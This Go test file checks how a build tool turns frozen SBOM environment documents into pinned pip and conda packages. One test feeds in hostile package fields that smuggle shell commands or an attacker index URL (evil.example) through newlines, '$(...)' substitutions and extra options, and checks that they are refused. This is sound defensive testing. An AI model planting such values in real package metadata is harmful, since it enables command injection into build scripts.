package pins

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/swebuild/swebuild/builder/spec"
	"github.com/swebuild/swebuild/core"
	"github.com/swebuild/swebuild/internal/fifotest"
	"github.com/swebuild/swebuild/sbom"
)

// captured is a calc env's document: the fixture image's real pip freeze
// (the sbom package's test data) plus fixdep 1.0.
func captured(t *testing.T, p core.Platform, ids ...string) *sbom.Document {
	t.Helper()
	raw, err := os.ReadFile("../sbom/testdata/fixture-py-pip-freeze.txt")
	if err != nil {
		t.Fatal(err)
	}
	pkgs, err := sbom.Parse(sbom.FormatPipFreeze, append(raw, "fixdep==1.0\nFix_Helper==2.0\n"...))
	if err != nil {
		t.Fatal(err)
	}
	return &sbom.Document{Kind: "env", Image: "sweb.env.fixture." + p.Arch() + ".x", Platform: p,
		Repo: "fixture/calc", Version: "1.0", InstanceIDs: ids, Packages: pkgs}
}

func TestFrozenRule(t *testing.T) {
	docs := []*sbom.Document{captured(t, core.AMD64, "fixture__calc-1", "fixture__calc-2"), captured(t, core.ARM64)}
	rule, err := Frozen(docs)
	if err != nil {
		t.Fatal(err)
	}
	set := (&Set{}).With(rule)
	recipe := func(id, repo string, p core.Platform, pip ...string) *spec.Recipe {
		return &spec.Recipe{InstanceID: id, Repo: repo, Version: "1.0", Platform: p, Spec: spec.Spec{PipPackages: pip}}
	}
	constraints := "-c /dev/stdin <<'SWEBUILD_FROZEN'\nattrs==22.2.0\nfix-helper==2.0\nfixdep==1.0\niniconfig==1.1.1\nmore-itertools==8.10.0\n" +
		"packaging==23.0\npip==23.0.1\npluggy==1.0.0+repack\npy==1.11.0\npytest==7.2.1\nsetuptools==66.1.1\nwheel==0.38.4\nSWEBUILD_FROZEN"
	for _, c := range []struct {
		name string
		rec  *spec.Recipe
		want []string // nil: unchanged
	}{
		{"by instance id", recipe("fixture__calc-1", "other/repo", core.AMD64, "fixdep", "fix_helper>=1", "--pre", "unknown"),
			[]string{"fixdep==1.0", "fix-helper==2.0", "--pre", "unknown", constraints}},
		{"by repo and version", recipe("fixture__calc-9", "fixture/calc", core.ARM64, "fixdep"), []string{"fixdep==1.0", constraints}},
		{"other platform", recipe("fixture__calc-1", "other/repo", core.ARM64, "fixdep"), nil},
		{"no pip line", recipe("fixture__calc-1", "fixture/calc", core.AMD64), nil},
		{"no document", recipe("fixture__textutil-1", "fixture/textutil", core.AMD64, "fixdep"), nil},
	} {
		before := append([]string(nil), c.rec.Spec.PipPackages...)
		set.Apply(c.rec)
		if c.want == nil {
			if !reflect.DeepEqual(c.rec.Spec.PipPackages, before) && !(len(before) == 0 && c.rec.Spec.PipPackages == nil) || len(c.rec.Pins) != 0 {
				t.Errorf("%s: changed to %q (pins %v)", c.name, c.rec.Spec.PipPackages, c.rec.Pins)
			}
			continue
		}
		if !reflect.DeepEqual(c.rec.Spec.PipPackages, c.want) {
			t.Errorf("%s: pip_packages =\n%q\nwant\n%q", c.name, c.rec.Spec.PipPackages, c.want)
		}
		if !reflect.DeepEqual(c.rec.Pins, []string{IDFrozen}) {
			t.Errorf("%s: pins = %v", c.name, c.rec.Pins)
		}
	}
	if _, err := Frozen([]*sbom.Document{{Kind: "instance"}}); err == nil {
		t.Error("Frozen with no env document: no error")
	}
}

func TestReadFrozenErrors(t *testing.T) {
	dir := t.TempDir()
	if _, err := ReadFrozen(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "no environment documents") {
		t.Errorf("empty dir: %v", err)
	}
	bad := filepath.Join(dir, "env.x.linux-amd64.cdx.json")
	if err := os.WriteFile(bad, []byte("{"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFrozen(context.Background(), dir); err == nil || !strings.Contains(err.Error(), bad) {
		t.Errorf("a broken document: %v, want its path named", err)
	}
}

// TestCondaPipSplit: which captured PyPI packages a frozen conda env pins.
// pip freeze --all lists conda-installed Python packages too, as
// name==version or (defaults channel builds) name @ file:///croot/...
func TestCondaPipSplit(t *testing.T) {
	conda := func(name, version, md5 string) sbom.Package {
		p := sbom.Package{Ecosystem: sbom.Conda, Name: name, Version: version, Build: "py39_0",
			URL: "https://repo.anaconda.com/pkgs/main/linux-64/" + name + "-" + version + "-py39_0.conda", Arch: "linux-64"}
		if md5 != "" {
			p.Checksum = "md5:" + md5
		}
		return p
	}
	pip := func(name, version, url string) sbom.Package {
		return sbom.Package{Ecosystem: sbom.PyPI, Name: name, Version: version, URL: url}
	}
	d := &sbom.Document{Kind: "env", Image: "sweb.env.py.x86_64.x", Platform: core.AMD64, Packages: []sbom.Package{
		conda("pip", "24.2", "0123456789abcdef0123456789abcdef"),
		conda("setuptools", "75.1.0", "fedcba9876543210fedcba9876543210"),
		conda("python", "3.9.20", ""),
		conda("pyyaml", "6.0.1", "00000000000000000000000000000001"),
		pip("pip", "24.2", ""),                                                // conda's
		pip("setuptools", "70.0.0", ""),                                       // pip installed over conda's
		pip("pyyaml", "", "PyYAML @ file:///croot/pyyaml_1698096049011/work"), // conda's
		pip("pytest", "8.3.3", ""),
		pip("pytest", "8.3.3", ""), // listed twice: once
		pip("localpkg", "", "localpkg @ file:///tmp/localpkg-1.0-py3-none-any.whl"),
		pip("calc", "1.0.0", "-e /testbed"),
		pip("noversion", "", ""), // not pip freeze output: skipped
	}}
	c, pinned, unpinned := CondaPipSplit(d)
	names := func(ps []sbom.Package) (out []string) {
		for _, p := range ps {
			out = append(out, p.Name+"=="+p.Version)
		}
		return out
	}
	if got, want := names(c), []string{"pip==24.2", "setuptools==75.1.0", "python==3.9.20", "pyyaml==6.0.1"}; !reflect.DeepEqual(got, want) {
		t.Errorf("conda %q, want %q", got, want)
	}
	if got, want := names(pinned), []string{"setuptools==70.0.0", "pytest==8.3.3"}; !reflect.DeepEqual(got, want) {
		t.Errorf("pinned %q, want %q", got, want)
	}
	if got, want := names(unpinned), []string{"localpkg==", "calc==1.0.0"}; !reflect.DeepEqual(got, want) {
		t.Errorf("unpinned %q, want %q", got, want)
	}
	wantSpec := "@EXPLICIT\n" +
		"https://repo.anaconda.com/pkgs/main/linux-64/pip-24.2-py39_0.conda#0123456789abcdef0123456789abcdef\n" +
		"https://repo.anaconda.com/pkgs/main/linux-64/setuptools-75.1.0-py39_0.conda#fedcba9876543210fedcba9876543210\n" +
		"https://repo.anaconda.com/pkgs/main/linux-64/python-3.9.20-py39_0.conda\n" +
		"https://repo.anaconda.com/pkgs/main/linux-64/pyyaml-6.0.1-py39_0.conda#00000000000000000000000000000001\n"
	if got := ExplicitSpec(c); got != wantSpec {
		t.Errorf("explicit spec\n%s\nwant\n%s", got, wantSpec)
	}
	warn := strings.Join(FrozenWarnings([]*sbom.Document{d, {Kind: "instance"}}), "\n")
	for _, w := range []string{"pip package localpkg is installed from localpkg @ file:///tmp/localpkg-1.0-py3-none-any.whl: not on an index, left out",
		"pip package calc is installed from -e /testbed", "conda package python has no md5"} {
		if !strings.Contains(warn, w) {
			t.Errorf("warnings lack %q:\n%s", w, warn)
		}
	}
	if n := strings.Count(warn, "\n") + 1; n != 3 {
		t.Errorf("%d warnings, want 3:\n%s", n, warn)
	}

	rule, err := Frozen([]*sbom.Document{d})
	if err != nil {
		t.Fatal(err)
	}
	set := (&Set{}).With(rule)
	// An upstream Python recipe is created from the explicit spec; its pip
	// line becomes the pinned packages.
	py := &spec.Recipe{InstanceID: "x-1", Platform: core.AMD64, Language: spec.LangPython, EnvYMLCached: true,
		Spec: spec.Spec{Python: "3.9", PipPackages: []string{"pytest"}}}
	d.InstanceIDs = []string{"x-1", "p-1"}
	set.Apply(py)
	if py.CondaExplicit != wantSpec || !reflect.DeepEqual(py.Spec.PipPackages, []string{"setuptools==70.0.0", "pytest==8.3.3"}) ||
		!reflect.DeepEqual(py.Pins, []string{IDFrozen}) {
		t.Errorf("python recipe: explicit %q, pip %q, pins %v", py.CondaExplicit, py.Spec.PipPackages, py.Pins)
	}
	// A profile's recipe keeps its steps: the pip line is pinned.
	prof := &spec.Recipe{InstanceID: "p-1", Platform: core.AMD64, Language: spec.LangPython, Profile: &spec.Profile{Name: "p"},
		Spec: spec.Spec{PipPackages: []string{"pytest"}}}
	set.Apply(prof)
	if prof.CondaExplicit != "" || len(prof.Spec.PipPackages) != 2 || prof.Spec.PipPackages[0] != "pytest==8.3.3" {
		t.Errorf("profile recipe: explicit %q, pip %q", prof.CondaExplicit, prof.Spec.PipPackages)
	}
}

// A document is data from a registry: a package name, version, URL or
// checksum outside its grammar would become shell text in setup_env.sh (a
// version 1.0%0Atouch ... in a purl ends the pip line and runs a command at
// build time; a conda URL or md5 with a newline adds lines to the explicit
// spec's heredoc, one of which may end it).
// Each is refused before anything is rendered, by ReadFrozen naming the
// file, the package and the field, and by Frozen given the document.
func TestFrozenRefusesHostileDocuments(t *testing.T) {
	condaPkg := func(name, version, build, url, md5 string) sbom.Package {
		p := sbom.Package{Ecosystem: sbom.Conda, Name: name, Version: version, Build: build, Arch: "linux-64", URL: url}
		if url == "" {
			p.URL = "https://repo.anaconda.com/pkgs/main/linux-64/" + name + "-" + version + "-" + build + ".conda"
		}
		if md5 != "" {
			p.Checksum = "md5:" + md5
		}
		return p
	}
	const goodMD5 = "0123456789abcdef0123456789abcdef"
	for _, tc := range []struct {
		name  string
		pkg   sbom.Package
		field string
	}{
		{"pip version with a newline (a purl with %0A)", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0\ntouch /tmp/swebuild-frozen-pwned"}, "version"},
		{"pip name with a newline", sbom.Package{Ecosystem: sbom.PyPI, Name: "x\ntouch /tmp/p", Version: "1.0"}, "name"},
		{"pip version with a command substitution", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0$(touch /tmp/p)"}, "version"},
		{"pip version with an option after a space", sbom.Package{Ecosystem: sbom.PyPI, Name: "fixdep", Version: "1.0 --index-url=http://evil.example/simple"}, "version"},
		{"pip source with a newline", sbom.Package{Ecosystem: sbom.PyPI, Name: "localpkg", URL: "localpkg @ file:///tmp/x\ntouch /tmp/p"}, "url"},
		{"conda URL with a newline", condaPkg("pip", "24.2", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/pip-24.2-py39_0.conda\ntouch /tmp/p", goodMD5), "url"},
		{"conda URL with a quote", condaPkg("pip", "24.2", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/x'y/pip-24.2-py39_0.conda", goodMD5), "url"},
		{"conda URL of another package", condaPkg("pip", "24.2", "py39_0", "https://evil.example/linux-64/evil-1.0-0.conda", goodMD5), "url"},
		{"conda md5 with a newline", condaPkg("pip", "24.2", "py39_0", "", goodMD5+"\ntouch /tmp/p"), "checksum"},
		{"conda name with a quote", condaPkg("pip'", "24.2", "py39_0", "", goodMD5), "name"},
		{"conda version with a hyphen", condaPkg("pip", "24.2-1", "py39_0", "https://repo.anaconda.com/pkgs/main/linux-64/pip-24.2-1-py39_0.conda", goodMD5), "version"},
		{"deb version with a command substitution", sbom.Package{Ecosystem: sbom.Deb, Name: "bash", Version: "5.2$(id)", Arch: "amd64"}, "version"},
		{"deb name with a space", sbom.Package{Ecosystem: sbom.Deb, Name: "bash dash", Version: "5.2", Arch: "amd64"}, "name"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := captured(t, core.AMD64, "fixture__calc-1")
			d.Packages = append(d.Packages, tc.pkg)
			raw, err := d.CycloneDX()
			if err != nil {
				t.Fatal(err)
			}
			dir := t.TempDir()
			file := filepath.Join(dir, "env.fixture.x86_64.cdx.json")
			if err := os.WriteFile(file, raw, 0o644); err != nil {
				t.Fatal(err)
			}
			_, err = ReadFrozen(context.Background(), dir)
			if err == nil || !strings.Contains(err.Error(), file+": package ") || !strings.Contains(err.Error(), ": "+tc.field+" ") {
				t.Errorf("ReadFrozen: %v; want an error naming %s, the package and its %s", err, file, tc.field)
			}
			back, derr := sbom.Decode(raw)
			if derr != nil {
				t.Fatal(derr)
			}
			if _, err := Frozen([]*sbom.Document{back}); err == nil || !strings.Contains(err.Error(), ": "+tc.field+" ") {
				t.Errorf("Frozen: %v; want an error naming the package's %s", err, tc.field)
			}
		})
	}
}

// --freeze DIR with a document that never ends or never starts (a FIFO
// named *.json): the endless one is refused at MaxFrozenDocument (bounded
// by the bytes its writer wrote), the one with no writer or a silent
// writer is given up when the context is done. Before, each was read
// with os.ReadFile: without bound, and for ever.
func TestReadFrozenEndlessAndStalledDocuments(t *testing.T) {
	t.Run("endless", func(t *testing.T) {
		dir := t.TempDir()
		e := fifotest.NewEndless(t, dir, "env.x.linux-amd64.cdx.json", `{"bomFormat":"CycloneDX"}`, MaxFrozenDocument+8<<20)
		done := make(chan error, 1)
		go func() { _, err := ReadFrozen(context.Background(), dir); done <- err }()
		select {
		case err := <-done:
			if !errors.Is(err, core.ErrTooLarge) || !strings.Contains(err.Error(), e.Path) {
				t.Fatalf("err = %v; want the limit, naming %s", err, e.Path)
			}
		case <-e.Exceeded:
			t.Fatalf("read more than %d MiB of an endless document (limit %d MiB)", e.Bound>>20, MaxFrozenDocument>>20)
		}
	})
	for _, tc := range []struct {
		name string
		make func(t *testing.T, dir string) string
	}{
		{"no writer", func(t *testing.T, dir string) string { return fifotest.NoWriter(t, dir, "env.x.linux-amd64.cdx.json") }},
		{"silent writer", func(t *testing.T, dir string) string { return fifotest.Silent(t, dir, "env.x.linux-amd64.cdx.json") }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			p := tc.make(t, dir)
			err := fifotest.Within(t, 100*time.Millisecond, 10*time.Second, func(ctx context.Context) error {
				_, err := ReadFrozen(ctx, dir)
				return err
			})
			if !errors.Is(err, context.Canceled) || !strings.Contains(err.Error(), p) {
				t.Fatalf("err = %v; want context.Canceled naming %s", err, p)
			}
		})
	}
}
